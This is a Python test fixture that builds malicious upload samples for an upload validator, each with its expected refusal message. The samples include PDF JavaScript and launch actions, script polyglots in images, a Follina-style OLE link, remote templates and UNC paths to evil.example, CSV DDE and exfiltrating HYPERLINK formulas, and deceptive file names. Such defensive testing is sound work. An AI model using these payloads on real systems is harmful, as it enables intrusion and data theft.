"""A hostile upload corpus, built in code: each file with the words its refusal must hold.

Every file here is something the issue saw stored, or a variant of it, decided by what it
can do to the person who opens it. ``CORPUS`` lists them all; ``BENIGN`` lists ordinary
files of the same kinds that must still pass. Nothing here is a binary checked in.
"""

from __future__ import annotations

import io
import zlib
from dataclasses import dataclass
from email.message import EmailMessage

import pikepdf
from PIL import Image

from tests.files import EXE, GIF, WEBP, eml_with, jpeg, ole, ooxml, pdf, pdf_object_stream, png


@dataclass(frozen=True)
class Hostile:
    kind: str  # pdf, image, office, csv, email, name: what the report counts by
    id: str
    name: str
    data: bytes
    says: str  # a part of the refusal's reason


PAGE_HTML = b"<html><body><script>document.location='https://evil.example/'</script></body></html>"
JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
PRINT = "Print it to a new PDF"


def _annot(body: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 50 50] " + body + b" >>]"


def _encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as doc:
        doc.save(out, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    return out.getvalue()


def _bomb_stream() -> bytes:
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"4 0 << /Note (x) >>")]
    chunk = b" " * (1 << 20)
    parts += [packer.compress(chunk) for _ in range(70)]
    return b"".join([*parts, packer.flush()])


def _orphan_js() -> bytes:
    """An object no cross-reference lists: qpdf never reads it, some readers find it."""
    data = pdf()
    at = data.index(b"xref")
    return data[:at] + b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n" + data[at:]


def pdfs() -> list[Hostile]:
    def case(id: str, data: bytes, says: str) -> Hostile:
        return Hostile("pdf", id, f"{id}.pdf", data, says)

    embedded = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(EXE), EXE)
    return [
        case("polyglot_header", pdf(header=b"%" + PAGE_HTML + b"\n"), "<html>"),
        case("polyglot_tail", pdf(tail=PAGE_HTML), "<html>"),
        case(
            "polyglot_stream",
            pdf(objects=[b"<< /Length 90 >>\nstream\n" + PAGE_HTML + b"\nendstream"]),
            "<html>",
        ),  # fmt: skip
        case("openaction_js", pdf(JS), "carries JavaScript"),
        case("hex_escaped_js", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "JavaScript"),
        case(
            "js_in_object_stream", pdf_object_stream(b"<< /S /JavaScript /JS (x) >>"), "JavaScript"
        ),
        case(
            "escaped_js_in_object_stream",
            pdf_object_stream(b"<< /S /#4aava#53cript /#4a#53 (x) >>"),
            "JavaScript",
        ),
        case(
            "names_tree_js",
            pdf(
                b"/Names << /JavaScript 4 0 R >>",
                objects=[b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"],
            ),
            "JavaScript",
        ),  # fmt: skip
        case("orphan_object_js", _orphan_js(), "JavaScript"),
        case("page_aa", pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "(/AA)"),
        case("launch", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "start a program"),
        case(
            "embedded_exe",
            pdf(
                b"/Names << /EmbeddedFiles << /Names [(setup.exe) << /Type /Filespec "
                b"/F (setup.exe) /EF << /F 4 0 R >> >>] >> >>",
                objects=[embedded],
            ),
            "files attached or embedded",
        ),  # fmt: skip
        case(
            "file_attachment_annot",
            pdf(page=_annot(b"/Subtype /FileAttachment /FS (a.exe)")),
            "files attached or embedded",
        ),  # fmt: skip
        case("rich_media", pdf(page=_annot(b"/Subtype /RichMedia")), "rich media"),
        case(
            "xfa_form",
            pdf(
                b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                objects=[b"<< /Length 0 >>\nstream\n\nendstream"],
            ),
            "XFA",
        ),  # fmt: skip
        case(
            "openaction_uri",
            pdf(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
            "by itself when it is opened",
        ),  # fmt: skip
        case(
            "javascript_link",
            pdf(page=_annot(b"/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>")),
            "runs a script",
        ),  # fmt: skip
        case(
            "unc_link",
            pdf(page=_annot(b"/Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\s) >>")),
            "another computer",
        ),  # fmt: skip
        case(
            "gotor_unc",
            pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\a.pdf) /D [0 /Fit] >>"),
            "open another file",
        ),  # fmt: skip
        case("object_stream_bomb", pdf_object_stream(b"", packed=_bomb_stream()), "PDF bombs"),
        case(
            "object_stream_odd_filter",
            pdf_object_stream(
                b"<< /JS (x) >>",
                filters=b"[/ASCIIHexDecode /FlateDecode]",
                packed=zlib.compress(b"4 0 << /JS (x) >>").hex().encode() + b">",
            ),
            "packed in a way we do not accept",
        ),
        case("encrypted", _encrypted_pdf(), "is protected"),
        # cost: qpdf alone parsed 6 million values from 23 MB in 100 s and 1.8 GB
        case(
            "huge_array",
            pdf(b"/X 4 0 R", objects=[b"[" + b"<<>>" * 300_000 + b"]"]),
            "far more parts than a document needs",
        ),  # fmt: skip
        case(
            "token_flood",
            pdf(b"/X 4 0 R", objects=[b"[" + b"1 " * 3_100_000 + b"]"]),
            "far more parts than a document needs",
        ),  # fmt: skip
    ]


def _pillow(fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(out, fmt, **options)
    return out.getvalue()


def _png_with_text(text: bytes) -> bytes:
    import struct

    body = b"Comment\x00" + text
    chunk = struct.pack(">I", len(body)) + b"tEXt" + body
    chunk += struct.pack(">I", zlib.crc32(b"tEXt" + body))
    data = png()
    return data[:33] + chunk + data[33:]


def _pixel_bomb() -> bytes:
    import struct

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def images() -> list[Hostile]:
    def case(id: str, ext: str, data: bytes, says: str) -> Hostile:
        return Hostile("image", id, f"{id}.{ext}", data, says)

    script = b"<script>alert(document.cookie)</script>"
    return [
        case("png_then_html", "png", png() + PAGE_HTML, "web page or script hidden after"),
        case("png_then_script", "png", png() + script, "web page or script hidden after"),
        case("png_then_exe", "png", png() + EXE, "program hidden after"),
        case("png_magic_then_html", "png", b"\x89PNG\r\n\x1a\n" + PAGE_HTML, "hidden"),
        case("png_text_chunk_script", "png", _png_with_text(script), "hidden inside it"),
        case("png_pixel_bomb", "png", _pixel_bomb(), "million pixels we accept"),
        case("png_truncated", "png", png()[:-20], "is not a genuine PNG image"),
        case("gif_then_html", "gif", GIF + PAGE_HTML, "hidden after"),
        case("gif_then_exe", "gif", GIF + EXE, "program hidden after"),
        case("gif_magic_then_html", "gif", b"GIF89a" + PAGE_HTML, "hidden"),
        case("jpeg_then_html", "jpg", jpeg() + PAGE_HTML, "hidden after"),
        case("jpeg_then_exe", "jpg", _pillow("JPEG") + EXE, "program hidden after"),
        case("jpeg_magic_then_script", "jpg", b"\xff\xd8\xff\xe0" + script, "hidden"),
        case("jpeg_garbage", "jpg", b"\xff\xd8\xff" + bytes(range(256)) * 4, "genuine JPEG"),
        case("webp_then_html", "webp", WEBP + PAGE_HTML, "hidden after"),
    ]


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


def _rel(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="rId9" Type="{_REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def _macro_types(main: bytes = b".macroEnabled") -> bytes:
    return (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
        b"vnd.openxmlformats-officedocument.wordprocessingml.document" + main + b'.main+xml"/>'
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/'
        b'vnd.ms-office.vbaProject"/></Types>'
    )


def _second_content_types() -> bytes:
    """A .docx with a second ``[Content_Types].xml`` entry that declares macros."""
    macro_types = _macro_types()
    out = io.BytesIO(ooxml("docx"))
    import warnings
    import zipfile

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: the point
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("[Content_Types].xml", macro_types)
    return out.getvalue()


def _first_content_types() -> bytes:
    """A .docx whose first ``[Content_Types].xml`` declares macros; zipfile reads the last."""
    import warnings
    import zipfile

    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: the point
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", _macro_types())
            with zipfile.ZipFile(io.BytesIO(ooxml("docx"))) as good:
                for info in good.infolist():
                    archive.writestr(info.filename, good.read(info))
    return out.getvalue()


def office() -> list[Hostile]:
    def case(id: str, ext: str, data: bytes, says: str) -> Hostile:
        return Hostile("office", id, f"{id}.{ext}", data, says)

    doc_rels = "word/_rels/document.xml.rels"
    return [
        case("second_content_types", "docx", _second_content_types(), "two parts with the same"),
        case("first_content_types", "docx", _first_content_types(), "two parts with the same"),
        case(
            "same_name_other_case",
            "docx",
            ooxml("docx", {"WORD/document.xml": b"<x/>"}),
            "two parts with the same",
        ),  # fmt: skip
        case(
            "macro_content_type_only",
            "docx",
            ooxml("docx", {"[Content_Types].xml": _macro_types(b"")}),
            "contains macros",
        ),  # fmt: skip
        case(
            "vba_relationship",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("vbaProject", "vbaProject.bin", "Internal"))}),
            "contains macros",
        ),  # fmt: skip
        case(
            "ole_object_part",
            "docx",
            ooxml("docx", {"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}),
            "embedded object (OLE)",
        ),  # fmt: skip
        case(
            "ole_object_relationship",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("oleObject", "embeddings/x.bin", "Internal"))}),
            "embedded object (OLE)",
        ),  # fmt: skip
        case("activex", "docx", ooxml("docx", {"word/activeX/activeX1.xml": b"<ax/>"}), "ActiveX"),
        case(
            "remote_template",
            "docx",
            ooxml(
                "docx",
                {
                    "word/_rels/settings.xml.rels": _rels(
                        _rel("attachedTemplate", "https://evil.example/t.dotm")
                    )
                },
            ),
            "fetches something from outside the file",
        ),  # fmt: skip
        case(
            "unc_image",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("image", "\\\\evil.example\\share\\a.png"))}),
            "fetches something from outside the file",
        ),  # fmt: skip
        case(
            "follina_ole",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("oleObject", "mhtml:https://evil.example/!x"))}),
            "embedded object (OLE)",
        ),  # fmt: skip
        case(
            "entity_encoded_external",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("image", "file:///C:/a.png", "&#69;xternal"))}),
            "fetches something from outside the file",
        ),  # fmt: skip
        case(
            "unc_hyperlink",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("hyperlink", "file://evil.example/s/a"))}),
            "file on another computer",
        ),  # fmt: skip
        case(
            "xlsx_external_link",
            "xlsx",
            ooxml(
                "xlsx",
                {
                    "xl/_rels/workbook.xml.rels": _rels(
                        _rel("externalLink", "\\\\evil.example\\s\\book.xlsx")
                    )
                },
            ),
            "fetches something from outside",
        ),  # fmt: skip
        case(
            "pptx_remote_image",
            "pptx",
            ooxml(
                "pptx",
                {
                    "ppt/slides/_rels/slide1.xml.rels": _rels(
                        _rel("image", "https://evil.example/pixel.png")
                    )
                },
            ),
            "fetches something from outside",
        ),  # fmt: skip
        case(
            "alt_chunk",
            "docx",
            ooxml("docx", {doc_rels: _rels(_rel("aFChunk", "page.mht", "Internal"))}),
            "merged into it",
        ),  # fmt: skip
        case("doc_ole_package", "doc", ole("WordDocument", "\x01Ole10Native"), "packed inside it"),
        case("doc_macros", "doc", ole("WordDocument", "Macros"), "contains macros"),
        case("xls_macros", "xls", ole("Workbook", "_VBA_PROJECT_CUR"), "contains macros"),
    ]


def csvs() -> list[Hostile]:
    def case(id: str, data: bytes) -> Hostile:
        return Hostile("csv", id, f"{id}.csv", data, "run as a formula")

    return [
        case("dde_cmd", b"ref,status\nR1,=cmd|' /C calc'!A0\n"),
        case("hyperlink", b'ref,link\nR1,"=HYPERLINK(""https://evil.example/?""&A1,""x"")"\n'),
        case("plus_dde", b"ref,status\nR1,+cmd|' /C calc'!A0\n"),
        case("minus_arith_dde", b"ref,status\nR1,-2+3+cmd|' /C calc'!A0\n"),
        case("at_sum", b"ref,status\nR1,@SUM(1+9)*cmd|' /C calc'!A0\n"),
        case("tab_before", b'ref,status\nR1,"\t=1+1"\n'),
        case("cr_before", b'ref,status\nR1,"\r=HYPERLINK(""x"")"\n'),
        case("semicolon_separated", b"ref;status\nR1;=1+1\n"),
        case("tab_separated", b"ref\tstatus\nR1\t=cmd|' /C calc'!A0\n"),
        case("utf16", "ref,status\r\nR1,=cmd|' /C calc'!A0\r\n".encode("utf-16")),
    ]


def _inline_program() -> bytes:
    message = EmailMessage()
    message["From"] = "dci@police.example.org"
    message["To"] = "business.manager@southend-lscb.example.org"
    message["Subject"] = "Evidence"
    message["Date"] = "Mon, 10 Jan 2011 09:00:00 +0000"
    message.set_content("See below.")
    message.add_attachment(EXE, maintype="application", subtype="octet-stream",
                           disposition="inline")  # fmt: skip
    return message.as_bytes()


def _forwarded(inner: bytes) -> bytes:
    message = EmailMessage()
    message["From"] = "dci@police.example.org"
    message["To"] = "business.manager@southend-lscb.example.org"
    message["Subject"] = "Fwd: Evidence"
    message["Date"] = "Mon, 10 Jan 2011 09:00:00 +0000"
    message.set_content("Forwarded.")
    from email import message_from_bytes, policy

    message.add_attachment(message_from_bytes(inner, policy=policy.default))
    return message.as_bytes()


def emails() -> list[Hostile]:
    def case(id: str, data: bytes, says: str) -> Hostile:
        return Hostile("email", id, f"{id}.eml", data, says)

    return [
        case("inline_program", _inline_program(), "Windows program"),
        case("attached_program", eml_with("invoice.pdf", EXE), "Windows program"),
        case("attached_js_pdf", eml_with("minutes.pdf", pdf(JS)), "JavaScript"),
        case("attached_png_payload", eml_with("photo.png", png() + PAGE_HTML), "hidden after"),
        case("attached_formula_csv", eml_with("data.csv", b"a,b\n1,=1+1\n"), "formula"),
        case("attached_macro_doc", eml_with("old.doc", ole("WordDocument", "Macros")), "macros"),
        case("forwarded_program", _forwarded(eml_with("tool.pdf", EXE)), "Windows program"),
    ]


def names() -> list[Hostile]:
    def case(id: str, name: str, says: str) -> Hostile:
        return Hostile("name", id, name, b"hello\n", says)

    reserved = "reserves for devices"
    return [
        case("zero_width_con", "C\u200bON.txt", reserved),
        case("soft_hyphen_con", "CO\u00adN.txt", reserved),
        case("bom_in_aux", "AU\ufeffX.txt", reserved),
        case("fullwidth_con", "\uff23\uff2f\uff2e.txt", reserved),
        case("superscript_com", "COM\u00b9.txt", reserved),
        case("trailing_dot_nul", "NUL.", reserved),
        case("trailing_space_prn", "prn .txt", reserved),
        case("lpt_double_extension", "LPT9.tar.txt", reserved),
        case("com0", "com0.txt", reserved),
        case("alternate_stream", "report.txt:evil.exe", "colon"),
        case("stream_type", "report.txt::$DATA", "colon"),
        case("stream_to_text", "minutes.txt:hidden.txt", "colon"),
        case("fullwidth_colon", "report.txt\uff1aevil.exe", "colon"),
        case("fullwidth_slash", "..\uff0f..\uff0fetc.txt", "folder path"),
        case("zero_width_drive", "C\u200b:\\evil.txt", "folder path"),
    ]


def corpus() -> list[Hostile]:
    return [*pdfs(), *images(), *office(), *csvs(), *emails(), *names()]


CORPUS = corpus()


# --- ordinary files that must still pass ---------------------------------------------------


def _real_pdf() -> bytes:
    """A PDF as writers make them: object streams, a web link, an outline, a go-to-page start."""
    doc = pikepdf.new()
    doc.add_blank_page(page_size=(595, 842))
    page = doc.pages[0]
    page.Contents = doc.make_stream(b"BT /F1 12 Tf 72 770 Td (Action plan: done) Tj ET")
    page.Annots = doc.make_indirect(pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 760, 200, 780],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.uk/")),
    )]))  # fmt: skip
    doc.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
    with doc.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Action plan", 0))
    out = io.BytesIO()
    doc.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _real_docx() -> bytes:
    """A .docx with a web link (an external hyperlink relationship) and an embedded chart."""
    return ooxml("docx", {
        "word/_rels/document.xml.rels": _rels(_rel("hyperlink", "https://www.gov.uk/")),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx"),
    })  # fmt: skip


def _exif_jpeg() -> bytes:
    image = Image.new("RGB", (64, 48), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Camera"
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=85, progressive=True)
    return out.getvalue()


BENIGN: list[tuple[str, bytes]] = [
    ("minutes.pdf", _real_pdf()),
    ("plain.pdf", pdf()),
    ("photo.png", _pillow("PNG")),
    ("photo.jpg", _exif_jpeg()),
    ("baseline.jpg", _pillow("JPEG")),
    ("chart.gif", _pillow("GIF")),
    ("photo.webp", _pillow("WEBP")),
    ("plan.docx", _real_docx()),
    ("tracker.xlsx", ooxml("xlsx")),
    ("slides.pptx", ooxml("pptx")),
    (
        "register.csv",
        b"ref,change,phone,date,note\nR1,-3.5,+44 (0)20 7946 0000,2011-01-03,- done\n"
        b"R2,+12%,-,2011-02-01,@panel asked\n",
    ),
    ("forwarded.eml", eml_with("minutes.pdf", pdf())),
]
